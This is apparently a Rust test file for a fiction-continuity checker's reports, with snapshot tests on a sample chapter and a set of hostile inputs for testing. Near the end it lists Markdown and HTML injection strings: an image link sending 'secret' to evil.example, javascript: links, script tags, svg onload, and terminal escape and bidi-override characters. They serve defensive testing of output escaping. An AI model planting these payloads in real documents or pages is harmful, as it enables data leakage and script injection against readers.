//! Tests of the reports: each form of output once as a snapshot, and hostile text through all of them.

mod for_programs;
mod hostile;
mod in_terminal;
#[path = "../../tests/live_parts.rs"]
mod live_parts;

use super::*;
use crate::finding::{Dismissal, Severity, Source, Standing, identity};
use crate::manuscript::{Encoding, StoryPoint};
use crate::text::{LineColumn, LineIndex, Span};
use insta::assert_snapshot;
use live_parts::live_parts;
use std::sync::Arc;

const CHAPTER: &str = "# The Salt Door\n\nMara’s green eyes were on the door.\n\nShe waited.\n";
const BIBLE: &str = "---\nname: Mara Vance\nfacts:\n  eyes: blue\n---\n";

fn path(text: &str) -> SourcePath {
    SourcePath::new(text)
}

fn evidence(file: &str, source: &str, quote: &str, label: &str) -> Evidence {
    let start = source.find(quote).unwrap();
    Evidence::in_file(&path(file), (source, Encoding::Utf8), &LineIndex::new(source), Span::new(start, start + quote.len()), label)
}

fn finding(rule: &str, severity: Severity, message: &str, evidence: Vec<Evidence>) -> Finding {
    let subjects = vec!["Mara Vance".to_string()];
    Finding {
        id: identity::of_words(rule, &subjects, &evidence),
        script: rule.to_string(),
        rule: rule.to_string(),
        severity,
        message: message.to_string(),
        subjects,
        evidence,
        model_note: None,
        point: Some(StoryPoint { book: 0, chapter: 2, scene: 0 }),
        confidence: None,
        standing: Standing::Open,
        sources: BTreeSet::from([Source::Patterns, Source::Bible]),
        reopened_from: None,
    }
}

fn green_eyes() -> Finding {
    let quotes = vec![
        evidence("book-1/ch-03.md", CHAPTER, "green eyes", "this chapter says"),
        evidence("bible/mara.md", BIBLE, "eyes: blue", "the bible says"),
    ];
    let message = "Mara Vance’s eyes are green here and blue in the bible.";
    Finding {
        model_note: Some("These are Mara’s own eyes.".to_string()),
        ..finding("changed-appearance", Severity::Contradiction, message, quotes)
    }
}

fn waited() -> Finding {
    finding("repeated-word", Severity::Note, "“waited” again.", vec![evidence("book-1/ch-03.md", CHAPTER, "She waited.", "")])
}

fn result(script: &str, scope: Scope, findings: Vec<Finding>) -> ScriptResult {
    ScriptResult {
        script: script.to_string(),
        report: "continuity".to_string(),
        scope,
        outcome: Outcome::Checked,
        findings,
        notes: Vec::new(),
        drafts: Vec::new(),
        awaits: None,
        coverage: Coverage { scenes: 1, words: 8, questions: 4, answered_from_cache: 0, ..Coverage::default() },
        problems: Vec::new(),
    }
}

fn in_chapter(findings: Vec<Finding>) -> ScriptResult {
    result("changed-appearance", Scope::Chapter(path("book-1/ch-03.md")), findings)
}

fn not_checked(mut result: ScriptResult, reason: &str) -> ScriptResult {
    result.outcome = Outcome::NotChecked(reason.to_string());
    result.coverage = Coverage::default();
    result
}

fn contents() -> Contents {
    let chapter = |number: usize, title: &str| ChapterEntry {
        path: path(&format!("book-1/ch-0{number}.md")),
        title: title.to_string(),
        number,
        scenes: 1,
        words: 8,
    };
    let chapters = vec![chapter(2, "The Key"), chapter(3, "The Salt Door")];
    let books = vec![BookEntry { folder: "book-1".to_string(), title: "Paper Ice".to_string(), chapters }];
    Contents { title: "The Ice Series".to_string(), books }
}

fn shipped() -> Templates {
    let (templates, problems) = Templates::new(&BTreeMap::new());
    assert_eq!(problems, []);
    templates
}

fn render(results: &[ScriptResult]) -> Vec<markdown::ReportFile> {
    let (files, problems) = markdown::files(results, &contents(), &shipped());
    assert_eq!(problems, []);
    files
}

fn one_report(results: &[ScriptResult]) -> String {
    let files = render(results);
    assert_eq!(files.len(), 1, "{files:?}");
    format!("{}\n\n{}", files[0].path, files[0].text)
}

#[test]
fn a_clean_chapter() {
    assert_snapshot!(one_report(&[in_chapter(vec![])]), @r#"
    book-1/ch-03.continuity.md

    # The Salt Door: continuity

    **Checked: nothing found.**

    ## What was read

    - changed-appearance read 1 of 1 scene and 8 of 8 words.
    "#);
}

#[test]
fn a_chapter_with_findings() {
    let mut other = result("repeated-word", Scope::Scene { file: path("book-1/ch-03.md"), number: 1 }, vec![waited()]);
    other.coverage.not_read = vec!["scene 2: it is marked as a letter".to_string()];
    assert_snapshot!(one_report(&[other, in_chapter(vec![green_eyes()])]), @r#"
    book-1/ch-03.continuity.md

    # The Salt Door: continuity

    **2 findings: 1 contradiction, 1 note.**

    ## Findings

    ### Mara Vance’s eyes are green here and blue in the bible.

    contradiction · changed-appearance · by code alone · 56045f304c

    book-1/ch-03.md:3:8 (this chapter says)

    > green eyes

    bible/mara.md:4:3 (the bible says)

    > eyes: blue

    The model’s words, no evidence: These are Mara’s own eyes.

    ## Also noted

    ### “waited” again.

    note · repeated-word · by code alone · 452d3c0b29

    book-1/ch-03.md:5:1

    > She waited.

    ## What was read

    - changed-appearance read 1 of 1 scene and 8 of 8 words.
    - repeated-word read 1 of 1 scene and 8 of 8 words.
    - Not read: scene 2: it is marked as a letter
    "#);
}

#[test]
fn a_chapter_that_was_not_checked() {
    assert_snapshot!(one_report(&[not_checked(in_chapter(vec![]), "the model file is missing")]), @r#"
    book-1/ch-03.continuity.md

    # The Salt Door: continuity

    **Not checked: the model file is missing.**

    ## What was read

    - changed-appearance read 0 of 1 scene and 0 of 8 words.
    "#);
}

#[test]
fn a_chapter_checked_in_part_is_not_called_clean() {
    let scene = |number| result("changed-appearance", Scope::Scene { file: path("book-1/ch-03.md"), number }, vec![]);
    let report = one_report(&[not_checked(scene(2), "it does not fit the model’s context"), scene(1)]);
    assert!(report.contains("**Nothing found in the part that was checked.**"), "{report}");
    assert!(report.contains("**Not checked by changed-appearance (scene 2): it does not fit the model’s context.**"), "{report}");
    assert!(!report.contains("Checked: nothing found"), "{report}");
}

#[test]
fn a_summary() {
    let mut summary = in_chapter(vec![]);
    summary.script = "summaries".to_string();
    summary.report = "summary".to_string();
    let passage = "Mara’s green eyes were on the door.\n\nShe waited.\n";
    let anchor = evidence("book-1/ch-03.md", CHAPTER, passage, "");
    let line = NoteLine { text: "Mara watches the door.".to_string(), is_model_text: true, evidence: vec![anchor] };
    summary.notes = vec![Note { chapter: None, heading: "Summary".to_string(), lines: vec![line], is_followed: false }];
    assert_snapshot!(one_report(&[summary]), @r#"
    book-1/ch-03.summary.md

    # The Salt Door: summary

    **Checked: no findings.**

    ## Summary

    The model’s words, no evidence:

    - Mara watches the door. (lines 3–5)

    ## What was read

    - summaries read 1 of 1 scene and 8 of 8 words.
    "#);
}

#[test]
fn a_books_findings_stand_in_its_report_and_in_the_chapters() {
    let book = result("changed-appearance", Scope::Book("book-1".to_string()), vec![green_eyes()]);
    let files = render(&[book]);
    let paths: Vec<&str> = files.iter().map(|file| file.path.as_str()).collect();
    assert_eq!(paths, ["book-1/ch-03.continuity.md", "book-1/book.continuity.md"]);
    assert!(files[0].text.contains("blue in the bible"));
    assert_snapshot!(files[1].text, @r#"
    # Paper Ice: continuity

    **1 finding: 1 contradiction.**

    ## Findings

    ### Mara Vance’s eyes are green here and blue in the bible.

    contradiction · changed-appearance · by code alone · 56045f304c

    book-1/ch-03.md:3:8 (this chapter says)

    > green eyes

    bible/mara.md:4:3 (the bible says)

    > eyes: blue

    The model’s words, no evidence: These are Mara’s own eyes.

    ## What was read

    - changed-appearance read 1 of 2 scenes and 8 of 16 words.
    "#);
}

#[test]
fn reports_do_not_depend_on_the_order_of_jobs_or_on_the_cache() {
    let series = result("who-knows-what", Scope::Series, vec![green_eyes()]);
    let results = [in_chapter(vec![green_eyes(), waited()]), series, result("other", Scope::Book("book-1".to_string()), vec![waited()])];
    let mut again = results.clone();
    again.reverse();
    for result in &mut again {
        result.coverage.answered_from_cache = 4;
    }
    assert_eq!(render(&results), render(&again));
}

#[test]
fn report_names_never_collide_or_leave_their_folder() {
    let mut contents = contents();
    let name = |file: &str, word: &str, contents: &Contents| markdown::path_of(&Scope::Chapter(path(file)), word, contents).to_string();
    assert_eq!(name("book-1/ch-03.md", "continuity", &contents), "book-1/ch-03.continuity.md");
    assert_eq!(name("book-1/ch-03.md", "../../Etc/x", &contents), "book-1/ch-03.etc-x.md");
    assert_eq!(name("book-1/book.md", "bible", &contents), "book-1/book.md.bible.md");
    contents.books[0].chapters[0].path = path("book-1/CH-03.txt");
    assert_eq!(name("book-1/ch-03.md", "bible", &contents), "book-1/ch-03.md.bible.md");
    assert_eq!(markdown::path_of(&Scope::Book(String::new()), "bible", &contents).as_str(), "book.bible.md");
    assert_eq!(markdown::path_of(&Scope::Series, "bible", &contents).as_str(), "series.bible.md");
}

#[test]
fn a_long_quote_loses_its_middle_in_markdown_only() {
    let source = format!("It began{} and ended.", " again".repeat(200));
    let long = finding("long", Severity::Query, "Long.", vec![evidence("book-1/ch-03.md", &source, &source, "")]);
    let report = one_report(&[in_chapter(vec![long.clone()])]);
    let quote = report.lines().find(|line| line.starts_with("> ")).unwrap();
    assert!(quote.chars().count() <= 302 && quote.contains(" … ") && quote.ends_with("and ended."), "{quote}");
    let summary = RunSummary { results: vec![in_chapter(vec![long])], ..RunSummary::default() };
    assert!(json::render(&summary).contains(&source));
}

#[test]
fn a_thousand_findings_fit_the_limit_on_templates() {
    let numbered = |number: usize| Finding { id: number.to_string(), ..green_eyes() };
    let report = one_report(&[in_chapter((0..1_000).map(numbered).collect())]);
    assert!(report.contains("**1,000 findings: 1,000 contradictions.**"));
}

fn sources(file: &SourcePath) -> Option<Arc<str>> {
    match file.as_str() {
        "book-1/ch-03.md" => Some(CHAPTER.into()),
        "bible/mara.md" => Some(BIBLE.into()),
        _ => None,
    }
}

fn summary() -> RunSummary {
    let model = ModelLine {
        name: "Qwen2.5 1.5B".to_string(),
        file_hash: "0123456789abcdef".to_string(),
        quantisation: "Q4_K_M".to_string(),
        context_tokens: 8192,
        settings: "greedy, seed 0".to_string(),
        reader: None,
        other_readers: vec![("Qwen2.5 0.5B".to_string(), 0.5)],
    };
    let mut found = in_chapter(vec![green_eyes()]);
    found.coverage.answered_from_cache = 3;
    let skipped = not_checked(result("who-knows-what", Scope::Series, vec![]), "it crashed twice");
    RunSummary {
        changes: None,
        model: Some(model),
        work: Work {
            read: 3210,
            reused: 12_000,
            restored: 4_000,
            generated: 480,
            forced: 20,
            drafted: 60,
            accepted: 45,
            questions: 8,
            from_cache: 3,
            open_micros: 900_000,
            read_micros: 32_100_000,
            write_micros: 10_000_000,
            restore_micros: 120_000,
            questions_at_once: 16,
            ..Work::default()
        },
        seconds: 12.34,
        results: vec![found.clone(), skipped, found],
        problems: vec![Problem::new(ProblemKind::Note, "no bible was found").in_file(&path("bible"))],
        seal_gaps: None,
    }
}

#[test]
fn merging_keeps_every_place() {
    let mut elsewhere = green_eyes();
    elsewhere.evidence[0].span = Span::new(90, 100);
    elsewhere.model_note = None;
    let merged = merge_by_id([elsewhere, green_eyes()]);
    assert_eq!(merged.len(), 1);
    assert_eq!(merged[0].evidence.len(), 3);
    assert!(merged[0].model_note.is_some());
}

/// Text that tries everything a Markdown viewer or a terminal might act on.
const HOSTILE: &[&str] = &[
    "![x](https://evil.example/?q=secret)",
    "[a](javascript:alert(1)) [b][r] ![c][r]\n\n[r]: http://evil.example",
    "<img src=http://evil.example/x> <script>alert(1)</script> <!-- c --> </details> <?php ?> <![CDATA[x]]>",
    "<http://evil.example> http://evil.example www.evil.example WWW.evil.example a@evil.example mailto:a@evil.example",
    "---\ntitle: x\n---\n+++\nx\n+++",
    "\u{202e}abc\u{2066}\u{200b}\u{1b}[31m\u{9b}31m\u{7}\u{8}\r\nx",
    "`code` ``` fence\n```html\n<b>\n``` ~~~ \\` \\",
    "[^1] and\n\n[^1]: http://evil.example",
    "| a | b |\n|---|---|\n| <b> | ![x](y) |",
    "$\\href{http://evil.example}{x}$ $$x$$ [[wiki]] ![[embed]] %%hidden%% ==mark== ^block #tag :smile:",
    "# heading\n===\n1. one\n- two\n+ three\n* four\n> quote\n    code\n\ttab",
    "&lt;img&gt; &#x3c;img&#x3e; &amp;lt;b&amp;gt;",
    ": definition\n~sub~ ^sup^ ~~strike~~ **bold** _em_ {#id .class} {{ title }} {% raw %}",
    "!",
    "\\",
    "",
    "[!note] x",
    "\u{f8fe}0\u{f8fe}:3:8 \u{e000} //evil.example",
];

#[test]
fn what_does_not_wait_for_the_author_stands_apart_at_the_end() {
    let dismissal =
        Dismissal { reason: Some("it is dyed".to_string()), file: path("book-1/ch-03.md"), place: LineColumn { line: 4, column: 1 } };
    let dismissed = Finding { standing: Standing::Dismissed(dismissal), ..green_eyes() };
    let unsure = Finding { standing: Standing::LessCertain, confidence: Some(0.416), ..waited() };
    assert_snapshot!(one_report(&[in_chapter(vec![dismissed.clone(), unsure.clone()])]), @r"
    book-1/ch-03.continuity.md

    # The Salt Door: continuity

    **Checked: nothing that waits for you; 1 dismissed, 1 less certain.**

    ## Less certain: 1

    - “waited” again. (book-1/ch-03.md:5, repeated-word, the model 41 % sure, 452d3c0b29)

    ## Dismissed: 1

    - Mara Vance’s eyes are green here and blue in the bible. (book-1/ch-03.md:3, changed-appearance, 56045f304c) by book-1/ch-03.md:4: it is dyed

    ## What was read

    - changed-appearance read 1 of 1 scene and 8 of 8 words.
    ");
    let summary = RunSummary { results: vec![in_chapter(vec![dismissed, unsure])], ..RunSummary::default() };
    assert_eq!((exit_status(&summary), summary.findings().len()), (0, 0));
    let lines = terminal::summary_lines(&summary);
    assert!(lines.contains("1 check: 1 clean, 0 with findings, 0 not checked.\nNot shown: 1 dismissed, 1 less certain.\n"), "{lines}");
}

/// Pieces from which hostile text is put together; most do something only in company.
const PIECES: [&str; 72] = [
    "![",
    "[",
    "]",
    "](",
    ")",
    "]:",
    "][",
    "[^",
    "![[",
    "]]",
    "[[",
    "<",
    ">",
    "</",
    "<!--",
    "-->",
    "<?",
    "<![CDATA[",
    "<img src=",
    "<script>",
    "<svg/onload=",
    "http:",
    "https:",
    "//",
    "/",
    ":",
    "www",
    ".",
    "WWW.",
    "@",
    "mailto:",
    "xmpp:",
    "javascript:",
    "data:",
    "file:",
    "e.vil",
    "evil.example",
    "&lt;",
    "&#60;",
    "&#x3c;",
    "&colon;",
    "&amp;",
    "&",
    ";",
    "\\",
    "\\\\",
    "`",
    "```",
    "~~~",
    "$",
    "$$",
    "%%",
    "==",
    "---",
    "***",
    "+++",
    "#",
    "- ",
    "1. ",
    "1) ",
    "| ",
    ">",
    "^",
    "{",
    "{{",
    ":::",
    "\n",
    "\n\n",
    "\r\n    ",
    "\t",
    " ",
    "a",
];

/// Characters that steer a viewer or a terminal instead of being seen.
const STEERING: [&str; 16] = [
    "\u{1b}[31m",
    "\u{1b}]8;;http://e.vil\u{7}",
    "\u{9b}2J",
    "\u{0}",
    "\u{8}",
    "\u{7f}",
    "\u{85}",
    "\u{202e}",
    "\u{2066}",
    "\u{200b}",
    "\u{200d}",
    "\u{2028}",
    "\u{2060}",
    "\u{feff}",
    "\u{e0041}",
    "\u{f8fe}",
];

/// Numbers that look random and are the same in every run (xorshift).
struct Rolls(u64);

impl Rolls {
    fn below(&mut self, count: usize) -> usize {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        (self.0 >> 16) as usize % count
    }

    fn hostile_text(&mut self) -> String {
        let piece = |rolls: &mut Rolls| {
            if rolls.below(6) == 0 { STEERING[rolls.below(STEERING.len())] } else { PIECES[rolls.below(PIECES.len())] }
        };
        (0..1 + self.below(12)).map(|_| piece(self)).collect()
    }
}
